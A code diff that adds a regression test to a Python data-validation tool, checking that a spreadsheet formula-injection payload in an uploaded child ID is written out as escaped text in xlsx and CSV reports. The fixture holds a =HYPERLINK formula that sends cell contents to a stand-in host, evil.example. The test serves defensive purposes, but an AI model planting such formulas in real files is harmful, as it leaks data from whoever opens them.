@@ -122,3 +122,30 @@ def test_serve_with_two_workers_shares_sessions_and_sign_out(tmp_path):
             proc.wait(timeout=60)
         except subprocess.TimeoutExpired:
             proc.kill()
+
+
+def test_validate_reports_write_an_uploaded_child_id_as_text_never_a_formula(tmp_path):
+    """The attack from issue 12: a CHILD id ``=HYPERLINK(...)`` in an uploaded file came out of
+    ``carewise validate --format xlsx`` as a live formula, and raw in the CSV."""
+    import openpyxl
+
+    folder = tmp_path / "2024-25"
+    folder.mkdir()
+    child = '"=HYPERLINK(""http://evil.example/?""&A1,""x"")"'
+    (folder / "header.csv").write_text("CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n"
+                                       f"{child},9,01/01/2010,NOTACODE,UN1,,\n")
+    (folder / "episodes.csv").write_text(
+        "CHILD,DECOM,RNE,LS,CIN,PLACE,PLACE_PROVIDER,DEC,REC,REASON_PLACE_CHANGE,HOME_POST,PL_POST,URN\n"
+        f"{child},01/05/2024,S,C2,N1,U1,PR1,,,,,,\n")
+    for fmt in ("xlsx", "csv"):
+        out = tmp_path / f"report.{fmt}"
+        result = _run("validate", str(folder), "--format", fmt, "--out", str(out))
+        assert result.exit_code == 1, result.output
+        if fmt == "xlsx":
+            cells = [c for ws in openpyxl.load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
+            assert not [c for c in cells if c.data_type == "f"], "no formulas"
+            assert any(c.value == "'=HYPERLINK(\"HTTP://EVIL.EXAMPLE/?\"&A1,\"X\")" for c in cells)
+        else:
+            rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
+            children = [r["child"] for r in rows if r["child"]]
+            assert children and all(c.startswith("'=") for c in children)
